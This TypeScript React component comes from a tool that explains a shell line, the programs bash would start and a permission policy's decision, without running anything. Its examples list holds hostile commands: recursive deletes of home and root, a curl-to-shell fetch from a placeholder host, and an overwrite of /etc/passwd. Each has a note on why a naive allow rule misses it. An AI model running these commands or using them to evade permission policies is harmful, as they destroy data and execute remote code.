import './line.css';
import { Fragment, type ReactElement, useLayoutEffect, useMemo, useRef } from 'react';
import { differenceOf } from '../document/page-state.ts';
import { marksOf } from '../document/risks.ts';
import { type PanelProps, usePage } from '../page/page-context.ts';
import { Badges, Disclosure } from '../parts/content.tsx';
import { Button } from '../parts/controls.tsx';
import { shortText, visibleText } from '../text/visible-text.ts';
import { countOf } from '../text/words.ts';
import { Verdict, VerdictMark } from '../parts/Verdict.tsx';
import { useAnswer } from '../worker/use-answer.ts';
import type { CheckedLine } from './answer-line.ts';
import { FullView } from './FullView.tsx';

/** Lines that ask a person, except for the last one. */
export const EXAMPLES = [
  ['git status; rm -rf ~', 'A rule that allows “git status” by its first words also allows the rest.'],
  ["find . -name '*.tmp' -delete", 'find looks for files, and with one word at its end deletes them.'],
  ["git -c core.pager='rm -rf /' log", 'git log only reads. The setting before it is a program that git starts.'],
  ['sort -o /etc/passwd names', 'sort prints, but -o writes its output over a file.'],
  ['echo $(curl -s evil.sh | sh)', 'It looks like echo. A shell runs whatever the server sends.'],
  ['tar -xf a.tar --to-command=sh', 'It writes no file: sh gets each one, and runs it.'],
  ['awk \'BEGIN{system("id")}\'', 'awk is a language, and its programs start others.'],
  ["sed -n '1e id' f", 'One letter in a sed script, e, runs a command.'],
  ['rg --pre ./x foo', 'A search that runs ./x on every file before it looks inside.'],
  ['xargs rm < list', 'Nobody who reads the line can say which files it removes.'],
  ['cat a.txt > ~/.bashrc', 'cat reads. The shell writes, and your next shell runs what it wrote.'],
  ['ls 2>/dev/null && cd src && git status', 'A redirect, two && and a cd: it looks busy, and only reads.'],
] as const;

/** UTF-16 units of a line: the browser lays it out twice. */
const MAX_TYPED = 50_000;

/** One shell line: the decision about it, the effects of each part, and what bash would start. */
export function Line({ active }: PanelProps): ReactElement {
  const { copy, compilation, dispatch } = usePage();
  const { line: text = '', policy } = copy;
  const described = compilation.result?.source;
  const question = useMemo(() => ({ text, policy, document: described }), [text, policy, described]);
  const isBlank = text.trim() === '';
  const { last, failure } = useAnswer('line', active && !isBlank ? question : undefined);
  const answer = isBlank ? undefined : last?.answer;
  const isSettled = isBlank || last?.question === question;
  const field = useRef<HTMLTextAreaElement>(null);
  const take = (line: string): void => {
    dispatch({ type: 'set', key: 'line', value: line, label: 'Another line' });
    // The button that was pressed goes away. On a touch screen the keyboard would hide what it showed.
    if (matchMedia('(pointer: fine)').matches) field.current?.focus();
  };
  return (
    <FullView
      view="line"
      sentence="See which programs bash would start for a line, their effects, and what your policy decides. Nothing runs here."
    >
      <div className="stack">
        <label className="subheading" htmlFor="shell-line">
          A shell line
        </label>
        <div className="field line-field">
          <Colours text={text} answer={answer} asked={last?.question.text ?? ''} />
          <textarea
            ref={field}
            id="shell-line"
            className="line-text"
            rows={2}
            spellCheck={false}
            autoCapitalize="off"
            autoComplete="off"
            maxLength={MAX_TYPED}
            placeholder="git status && rm -rf build"
            value={text}
            onChange={({ target }) => dispatch({ type: 'set', key: 'line', value: target.value || undefined })}
          />
        </div>
      </div>
      {failure !== undefined && <p className="bad">{failure}</p>}
      {!isBlank && (
        <Verdict
          decision={answer?.decision}
          title={answer ? undefined : 'Not read yet'}
          reasons={answer ? reasonsOf(answer) : ['Reading the line…']}
          isBusy={!isSettled}
        />
      )}
      {answer && <Parts {...answer} />}
      <Disclosure key={isBlank ? 'open' : 'folded'} summary="Twelve lines that surprise" open={isBlank}>
        <dl className="facts line-examples" aria-label="Examples">
          {EXAMPLES.map(([line, why]) => (
            <Fragment key={line}>
              <dt>
                <Button look="link" onClick={() => take(line)}>
                  <code>{line}</code>
                </Button>
              </dt>
              <dd>{why}</dd>
            </Fragment>
          ))}
        </dl>
      </Disclosure>
    </FullView>
  );
}

/** The gravest reason, those of no part, and a summary; the parts have the others. */
function reasonsOf({ reasons, parts, total, writes, reads }: CheckedLine): readonly string[] {
  const [gravest = 'The policy allows every part of it.'] = reasons;
  const files = [writes.length > 0 && `writes ${writes.join(', ')}`, reads.length > 0 && `reads ${reads.join(', ')}`];
  const summary = [countOf(total, 'part'), ...files].filter(Boolean).join(' · ');
  const isLoose = (reason: string): boolean => parts.every((part) => !part.reasons.includes(reason));
  return [...new Set([gravest, ...reasons.filter(isLoose), summary])];
}

interface ColoursProps {
  readonly text: string;
  readonly answer: CheckedLine | undefined;
  /** The text that `answer` is about: marks reach as far as both are the same. */
  readonly asked: string;
}

/** The text behind the field, which shows only its caret; its parts are marked by their harm. The list below says it in words. */
function Colours({ text, answer, asked }: ColoursProps): ReactElement {
  const backdrop = useRef<HTMLDivElement>(null);
  useLayoutEffect(() => {
    const node = backdrop.current?.firstChild;
    if (!node || !('highlights' in CSS)) return;
    const same = asked === text ? text.length : differenceOf(asked, text).start;
    const mark = (name: string, places: CheckedLine['unread'], priority: number): void => {
      const ends = { startContainer: node, endContainer: node };
      const rangeOf = ({ start, end }: (typeof places)[number]): StaticRange =>
        new StaticRange({ ...ends, startOffset: Math.min(start, same), endOffset: Math.min(end, same) });
      CSS.highlights.set(name, Object.assign(new Highlight(...places.map(rangeOf)), { priority }));
    };
    const { parts = [], unread = [] } = answer ?? {};
    for (const [harm, name] of ['line-part', 'line-care', 'line-harm'].entries())
      mark(
        name,
        parts.filter((part) => part.harm === harm),
        harm,
      );
    mark('line-unread', unread, 3);
  }, [text, answer, asked]);
  return (
    <div className="line-colours" aria-hidden="true" ref={backdrop}>
      {/* Else the last line would have no height after a line break. */}
      {`${text}\u200b`}
    </div>
  );
}

/** Words of a part that are shown, and UTF-16 units of one. */
const MAX_WORDS = 60;
const MAX_WORD = 300;

/** The parts of a line: the words of each as bash would start it, its effects, and the reasons of the decision. */
function Parts({ parts, total }: CheckedLine): ReactElement {
  return (
    <ol className="stack" aria-label="Parts of the line">
      {parts.map(({ decision, through, words, risks, reasons, decidedBy, remarks }, at) => (
        // biome-ignore lint/suspicious/noArrayIndexKey: the same command may come twice; its place is its identity.
        <li key={at} className="card stack">
          <div className="row">
            <span className="quiet">{at + 1}</span>
            <ol className="row grow" aria-label={`Words of part ${at + 1}`}>
              {through.length > 0 && <li className="quiet">{visibleText(through.join(' › '))} ›</li>}
              {words.slice(0, MAX_WORDS).map(({ text, open }, place) => (
                // biome-ignore lint/suspicious/noArrayIndexKey: the same word may come twice; its place is its identity.
                <li key={place}>
                  <code className="badge">{shortText(text, MAX_WORD) || '⟨empty⟩'}</code>{' '}
                  {open !== undefined && <span className="small quiet">{open}</span>}
                </li>
              ))}
              {words.length > MAX_WORDS && <li>and {countOf(words.length - MAX_WORDS, 'more word')}</li>}
            </ol>
            <VerdictMark decision={decision} />
          </div>
          <Badges marks={marksOf(risks)} />
          {[...new Set(reasons)].map((reason) => (
            <p key={reason}>{visibleText(reason)}</p>
          ))}
          <p className="quiet">
            {visibleText(remarks.join(' '))} {decidedBy}
          </p>
        </li>
      ))}
      {total > parts.length && <li className="quiet">and {countOf(total - parts.length, 'more part')}</li>}
    </ol>
  );
}
